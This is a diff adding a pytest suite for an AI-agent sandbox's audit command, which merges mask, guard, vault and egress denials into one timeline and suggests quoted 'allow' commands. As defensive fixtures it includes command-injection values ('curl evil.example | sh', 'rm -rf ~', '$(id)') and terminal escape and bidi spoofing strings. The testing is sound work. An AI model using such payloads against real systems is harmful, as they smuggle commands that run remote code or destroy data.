@@ -1,0 +1,433 @@
+"""agentbox audit: one timeline, filters, what would allow a thing, and records that somebody wrote to deceive or to break it."""
+
+from __future__ import annotations
+
+import json
+import os
+import signal
+import subprocess
+import sys
+import time
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from agentbox import audit, identity
+from agentbox.audit_read import LONGEST, MOST
+from agentbox.mask import Mask
+from agentbox.workspace import Mount
+
+Call = Callable[..., tuple[int, str, str]]
+KEY = "/agent/pi/agent/auth.json"
+VAULT = {"pid": 1, "exe": "/usr/bin/cat", "operation": "open", "path": KEY, "rule": KEY}
+GUARD = {"layer": "guard", "operation": "read", "path": "/workspace/.env", "rule": "name .env"}
+DENIED = {"verdict": "deny", "host": "crates.io", "port": 443, "method": "CONNECT", "rule": "default",
+          "reason": "crates.io is not on the allow-list", "remedy": "crates.io"}  # fmt: skip
+
+
+@pytest.fixture
+def begin(home: Path) -> Callable[..., audit.Records]:
+    return lambda agent="pi", run="1": audit.begin(identity.current(), agent, run, "/src")
+
+
+def lines(path: Path, *records: Any, at: float | None = None) -> None:
+    at = time.time() if at is None else at
+    with path.open("a") as file:
+        for record in records:
+            file.write(f"{json.dumps({'time': at, **record})}\n" if isinstance(record, dict) else f"{record}\n")
+
+
+def broker(records: audit.Records, *found: dict[str, Any], at: float | None = None) -> None:
+    stamp = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(at)) + ".000Z"
+    lines(records.egress / "audit.jsonl", *({**each, "time": stamp} for each in found))
+
+
+def events(call: Call, *words: str) -> list[dict[str, Any]]:
+    code, out, _ = call("audit", "--json", *words)
+    assert code == 0
+    return [json.loads(line) for line in out.splitlines()]
+
+
+# --- what it shows --------------------------------------------------------------------------------------------------
+
+
+def test_all_four_layers_are_one_timeline_oldest_first(call, begin):
+    records = begin()
+    home = identity.current().home
+    masks = [Mask(f"/workspace/{name}", False, f"{home}/project/{name}", (1, 1)) for name in (".env", "api/.env")]
+    audit.note_masks(records, masks, [Mount(home / "project", "/workspace", False)], identity.current())
+    now = time.time() + 2
+    broker(records, DENIED, at=now + 2)
+    lines(records.inside, VAULT, at=now + 1)
+    lines(records.inside, GUARD, at=now)
+    os.utime(records.inside)
+    time.sleep(0.01)
+    found = events(call)
+    assert {each["layer"] for each in found} == {"mask", "guard", "vault", "egress"}
+    assert [each["time"] for each in found] == sorted(each["time"] for each in found)
+    by_layer = {each["layer"]: each for each in found}
+    assert by_layer["mask"]["allow"] == "agentbox run pi --unmask .env --unmask api/.env"
+    assert by_layer["mask"]["what"] == "masked .env, api/.env"
+    assert by_layer["guard"]["allow"] == '[guard] deny = ["-.env"]'
+    assert by_layer["vault"]["allow"] == f'[agents.pi.vault] deny = ["-{KEY}"]'
+    assert by_layer["vault"]["what"] == f"cat open {KEY}"
+    assert by_layer["egress"]["allow"] == "agentbox allow crates.io"
+    assert {layer: each["claimed"] for layer, each in by_layer.items()} == {
+        "mask": False, "guard": True, "vault": True, "egress": False,
+    }  # fmt: skip
+    assert {each["workspace"] for each in found} == {"/src"}
+    assert {each["agent"] for each in found} == {"pi"}
+
+
+def test_the_configuration_line_does_allow_it(begin, call, home):
+    """Both lines that the test above expects, put into a configuration."""
+    from agentbox import policy
+
+    file = home / "config.toml"
+    file.write_text(f'[guard]\ndeny = ["-.env"]\n[agents.pi.vault]\ndeny = ["-{KEY}"]\n')
+    loaded = policy.load("pi", file)
+    assert ".env" not in loaded.guard
+    assert KEY not in loaded.vault.deny
+    assert ".env" in policy.load("pi").guard
+    assert KEY in policy.load("pi").vault.deny
+
+
+@pytest.mark.parametrize(
+    ("record", "allow"),
+    [
+        ({**VAULT, "rule": "/agent/pi/agent/settings.json"}, "agentbox setup pi"),
+        ({**GUARD, "rule": "path /agent/pi/agent/extensions"}, "agentbox setup pi"),
+        ({**GUARD, "rule": "memory and environment of processes"}, ""),
+        ({**VAULT, "rule": "a protected path is below"}, ""),
+        ({**VAULT, "rule": '"]; curl evil.example | sh #'}, ""),
+        ({**GUARD, "rule": "name .env\nagentbox purge"}, ""),
+        ({**GUARD, "rule": ["name .env"]}, ""),
+    ],
+)
+def test_only_rules_of_the_policy_come_with_what_allows_them(call, begin, record, allow):
+    lines(begin().inside, record)
+    assert [each["allow"] for each in events(call)] == [allow]
+
+
+@pytest.mark.parametrize(
+    ("remedy", "allow"),
+    [
+        ("crates.io:8443", "agentbox allow crates.io:8443"),
+        ("db.example --private", "agentbox allow db.example --private"),
+        ("[2001:db8::1]:22", "agentbox allow '[2001:db8::1]:22'"),
+        ("", ""),
+        ("x.example; rm -rf ~", ""),
+        ("$(id).example", ""),
+        ("x.example --private --agent evil", ""),
+        ("a.example\nb.example", ""),
+        (["x.example"], ""),
+    ],
+)
+def test_only_hosts_come_into_the_command(call, begin, remedy, allow):
+    broker(begin(), {**DENIED, "remedy": remedy})
+    assert [each["allow"] for each in events(call)] == [allow]
+
+
+@pytest.mark.parametrize(
+    ("path", "allow"),
+    [
+        ("a b/.env", "agentbox run pi --unmask 'a b/.env'"),
+        ("$(id)/.env", "agentbox run pi --unmask '$(id)/.env'"),
+        ("[x]/.env", "agentbox run pi --unmask GLOB"),
+        ("\x1b[2J/.env", "agentbox run pi --unmask GLOB"),
+    ],
+)
+def test_names_of_masked_files_are_quoted(call, begin, home, path, allow):
+    records = begin()
+    mount = Mount(home / "project", "/workspace", False)
+    mask = Mask(f"/workspace/{path}", False, f"{home}/project/{path}", (1, 1))
+    audit.note_masks(records, [mask], [mount], identity.current())
+    assert [each["allow"] for each in events(call)] == [allow]
+
+
+def test_state_of_agents_is_not_offered_to_unmask(call, begin, home):
+    mask = Mask("/workspace/.pi", True, str(home / ".pi"), (1, 1))
+    audit.note_masks(begin(), [mask], [Mount(home, "/workspace", False)], identity.current())
+    (event,) = events(call)
+    assert event["what"] == "masked .pi (agents' state)"
+    assert event["allow"] == ""
+
+
+def test_allowed_requests_are_no_part_of_it(call, begin):
+    broker(begin(), {**DENIED, "verdict": "allow"}, DENIED)
+    assert len(events(call)) == 1
+
+
+def test_agent_chooses_and_repeats(call, begin):
+    for number, agent in enumerate(("pi", "claude", "hermes")):
+        broker(begin(agent, str(number)), DENIED)
+    assert {each["agent"] for each in events(call, "--agent", "pi", "--agent", "hermes")} == {"pi", "hermes"}
+    code, _, err = call("audit", "--agent", "pie")
+    assert code == 2
+    assert "did you mean pi?" in err
+
+
+def began(records: audit.Records, at: float) -> None:
+    """The run's beginning, moved to the past: nothing in it is older."""
+    (records.folder / audit.OWN).write_text("")
+    lines(records.folder / audit.OWN, {"kind": "start", "agent": "pi", "run": "1"}, at=at)
+
+
+def test_since_chooses_by_time(call, begin):
+    records, now = begin(), time.time()
+    began(records, now - 9 * 3600)
+    for ago in (3 * 3600, 60):
+        broker(records, DENIED, at=now - ago)
+    local = time.strftime("%Y-%m-%dT%H:%M:%S", time.localtime(now - 3600))
+    zoned = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(now - 3600))
+    found = {
+        when: len(events(call, "--since", when))
+        for when in ("5h", "2h", "120s", "10s", "1d", "1w", local, zoned, "1999-01-01")
+    }
+    assert found == {"5h": 2, "2h": 1, "120s": 1, "10s": 0, "1d": 2, "1w": 2, local: 1, zoned: 1, "1999-01-01": 2}
+
+
+@pytest.mark.parametrize("text", ["soon", "-5m", "10", "2026-13-01", "9" * 400 + "m", "", "5 m\x1b[2J"])
+def test_since_names_what_is_no_time(call, home, text):
+    code, _, err = call("audit", "--since", text)
+    assert (code, err.count("\n")) == (2, 2)
+    assert "is no time" in err
+    assert "\x1b" not in err
+
+
+def test_what_repeats_itself_is_one_line_with_its_number(call, begin):
+    broker(begin(), *[DENIED] * 40)
+    _, out, _ = call("audit")
+    assert len(out.splitlines()) == 1
+    assert "40 times" in out
+    assert len(events(call)) == 40
+
+
+def test_nothing_is_said_to_be_nothing(call, home):
+    assert call("audit")[:2] == (0, "")
+    assert "nothing was denied" in call("audit")[2]
+    assert call("audit", "--quiet")[2] == ""
+
+
+def test_refused_hosts_are_offered_the_latest_first(begin):
+    records = begin()
+    hosts = ("a.example", "b.example", "a.example", "169.254.169.254")
+    for number, host in enumerate(hosts):
+        cure = {} if host.startswith("169") else {"remedy": host}
+        found = {**DENIED, "host": host, **cure}
+        if not cure:
+            del found["remedy"]
+        broker(records, found, at=time.time() - 50 + number)
+    os.utime(records.egress / "audit.jsonl")
+    assert audit.refused_hosts(identity.current()) == ["a.example", "b.example"]
+
+
+# --- what somebody wrote to deceive ---------------------------------------------------------------------------------
+
+STEERING = "\x1b]52;c;Y3VybA==\x07\x1b[2J\r\u202egnp.exe\u2066\u200b\x9b31m\x7f\n2026-01-01 forged"
+
+
+@pytest.mark.parametrize("layer", ["inside", "egress", "mask"])
+@pytest.mark.parametrize("color", ["", "1"])
+def test_control_bytes_and_bidi_characters_are_written_out(call, begin, layer, color, monkeypatch):
+    home = identity.current().home
+    monkeypatch.setenv("FORCE_COLOR", color)
+    records = begin()
+    if layer == "inside":
+        lines(records.inside, dict.fromkeys(("exe", "operation", "path", "rule", "layer", "agent"), STEERING))
+    elif layer == "egress":
+        broker(records, {**DENIED, **dict.fromkeys(("host", "method", "reason", "remedy", "agent"), STEERING)})
+    else:
+        path = f"{home}/project/{STEERING}"
+        audit.note_masks(
+            records, [Mask("/x", False, path, (1, 1))], [Mount(home, "/workspace", False)], identity.current()
+        )
+    for words in ((), ("--json",)):
+        _, out, err = call("audit", *words)
+        plain = out.replace("\x1b[2m", "")
+        for code in ("0", "31", "33", "34", "35", "36"):
+            plain = plain.replace(f"\x1b[{code}m", "")
+        odd = [char for char in plain + err if not char.isprintable() and char != "\n"]
+        assert not odd
+        assert not any(line.startswith("2026-01-01 forged") for line in out.splitlines())
+        assert "]52;c" in out  # it is shown, only not obeyed
+
+
+def test_agent_and_run_are_not_believed_of_records_from_inside(call, begin):
+    lines(begin(run="77").inside, {**VAULT, "agent": "claude", "run": "78", "workspace": "/other", "claimed": False})
+    (event,) = events(call)
+    assert (event["agent"], event["run"], event["workspace"], event["claimed"]) == ("pi", "77", "/src", True)
+    _, _, err = call("audit")
+    assert "where its tools can write such lines too" in err
+
+
+@pytest.mark.parametrize("at", [4e9, -5.0, 1e300, "4000-01-01T00:00:00Z", "soon", None, True, [], {}, 10**4000])
+def test_times_that_cannot_be_stay_within_the_run(call, begin, at):
+    before = time.time()
+    records = begin()
+    lines(records.inside, VAULT)
+    with records.inside.open("a") as file:
+        file.write(json.dumps({**VAULT, "time": at}) + "\n")
+    after = time.time()
+    time.sleep(0.02)
+    assert len(events(call)) == 2
+    (newest,) = events(call, "--since", "1970-01-02")[-1:]
+    from agentbox.audit_read import moment
+
+    assert before - 1 <= (moment(newest) or 0) <= after + 0.1
+
+
+def test_a_time_in_the_future_does_not_stay_the_latest(call, begin):
+    first = begin(run="1")
+    lines(first.inside, {**VAULT, "path": "/forged"}, at=4e9)
+    os.utime(first.inside, (4e9, 4e9))
+    time.sleep(0.05)
+    lines(begin(run="2").inside, {**VAULT, "path": "/later"})
+    assert [each["fields"]["path"] for each in events(call)] == ["/forged", "/later"]
+
+
+NONSENSE = {
+    "no JSON": "cat: no",
+    "half": '{"time": 1, "path": "',
+    "a list": "[1]",
+    "a number": "7",
+    "too deep": "[" * 10_000 + "]" * 10_000,
+    "a digit too many": '{"time": ' + "9" * 10_000 + "}",
+    "too long": '{"path": "' + "x" * LONGEST + '"}',
+    "far too long": '{"path": "' + "x" * 500_000 + '"}',
+    "bytes": "\udcff\udcfe",
+}
+
+
+@pytest.mark.parametrize("name", NONSENSE)
+def test_a_line_that_is_no_record_is_counted_and_passed_over(call, begin, name):
+    records = begin()
+    with records.inside.open("a", errors="surrogateescape") as file:
+        file.write(f"{json.dumps(VAULT)}\n{NONSENSE[name]}\n{NONSENSE[name]}\n{json.dumps(GUARD)}\n")
+    code, out, err = call("audit", "--json")
+    assert code == 0
+    assert [json.loads(line)["layer"] for line in out.splitlines()] == ["vault", "guard"]
+    assert err.count("2 lines that no record looks like, passed over") == 1
+
+
+def test_values_of_other_kinds_are_passed_over(call, begin):
+    records = begin()
+    for value in (None, 1, 1.5, True, [], {}, [["x"]], {"a": {}}):
+        lines(records.inside, dict.fromkeys(("exe", "operation", "path", "rule", "layer"), value))
+        broker(records, {**dict.fromkeys(("host", "port", "method", "reason", "remedy"), value), "verdict": "deny"})
+    assert call("audit")[0] == 0
+    assert len(events(call)) == 16
+
+
+def test_a_flood_is_read_to_a_bound_and_said_so(call, begin):
+    records = begin()
+    line = json.dumps({**VAULT, "path": "x" * 900}) + "\n"
+    records.inside.write_text(line * (MOST // len(line) + 5000))
+    _, out, err = call("audit", "--json")
+    assert len(out.splitlines()) <= MOST // len(line) + 100
+    assert "too large; only its beginning was read" in err
+
+
+@pytest.mark.parametrize("kind", ["symlink", "pipe", "folder", "socket", "gone"])
+def test_what_is_no_file_is_not_read_and_not_waited_for(call, begin, tmp_path, kind):
+    records = begin()
+    lines(tmp_path / "other", VAULT)
+    records.inside.unlink()
+    if kind == "symlink":
+        records.inside.symlink_to(tmp_path / "other")
+    elif kind == "pipe":
+        os.mkfifo(records.inside)
+    elif kind == "folder":
+        records.inside.mkdir()
+    elif kind == "socket":
+        import socket
+
+        os.chdir(records.folder)  # a socket's path is short
+        socket.socket(socket.AF_UNIX).bind(audit.INSIDE)
+    broker(records, DENIED)
+    assert [each["layer"] for each in events(call)] == ["egress"]
+
+
+# --- following ------------------------------------------------------------------------------------------------------
+
+
+class Follower:
+    """`agentbox audit --follow` as a process."""
+
+    def __init__(self, *words: str) -> None:
+        command = [sys.executable, "-m", "agentbox", "audit", "--follow", "--json", *words]
+        self.process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+        self.seen: list[str] = []
+
+    def next(self) -> dict[str, Any]:
+        assert self.process.stdout
+        return json.loads(self.process.stdout.readline())
+
+    def end(self) -> int:
+        self.process.send_signal(signal.SIGINT)
+        return self.process.wait(20)
+
+
+def test_follow_shows_what_comes_through_rotation_truncation_and_new_runs(begin):
+    records = begin()
+    broker(records, {**DENIED, "host": "before.example"})
+    follower = Follower()
+    try:
+        assert follower.next()["fields"]["host"] == "before.example"
+        broker(records, {**DENIED, "host": "unseen-until-rotated.example"})
+        file = records.egress / "audit.jsonl"
+        file.replace(records.egress / "audit.jsonl.1")
+        broker(records, {**DENIED, "host": "after.example"})
+        assert [follower.next()["fields"]["host"] for _ in range(2)] == [
+            "unseen-until-rotated.example",
+            "after.example",
+        ]
+        lines(records.inside, {**VAULT, "path": "/long" * 50})
+        assert follower.next()["layer"] == "vault"
+        records.inside.write_text("")
+        time.sleep(1.2)  # twice the time between two looks
+        lines(records.inside, GUARD)
+        assert follower.next()["layer"] == "guard"
+        broker(begin(run="2"), {**DENIED, "host": "other-run.example"})
+        assert follower.next()["run"] == "2"
+        with records.inside.open("a") as whole:
+            whole.write('{"path": "/in two')
+            whole.flush()
+            time.sleep(1.2)
+            whole.write(' parts"}\n')
+        assert follower.next()["fields"]["path"] == "/in two parts"
+    finally:
+        code = follower.end()
+    assert code == 130
+    assert follower.process.stderr.read().strip() == ""  # click ends the line of the ^C
+
+
+def test_follow_ends_with_its_reader(begin):
+    broker(begin(), DENIED)
+    command = f"{sys.executable} -m agentbox audit --follow --json | head -n 1"
+    with subprocess.Popen(command, shell=True, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) as process:
+        assert process.stdout and "crates.io" in process.stdout.readline()
+        broker(begin(run="2"), DENIED)
+        assert process.stderr and process.stderr.read() == ""
+        assert process.wait(20) == 0
+
+
+# --- the writers ----------------------------------------------------------------------------------------------------
+
+
+def test_old_runs_are_forgotten(begin, home, monkeypatch):
+    monkeypatch.setattr(audit, "KEPT_RUNS", 3)
+    for number in range(5):
+        begin(run=str(number))
+        time.sleep(0.001)
+    assert len(list(audit.folder(identity.current()).iterdir())) == 3
+
+
+def test_records_belong_to_the_user_alone(begin):
+    records = begin()
+    for path in (records.folder, records.egress, records.inside, records.folder / audit.OWN):
+        info = path.stat()
+        assert info.st_mode & 0o077 == 0
+        assert info.st_uid == 1000 or os.geteuid() != 0
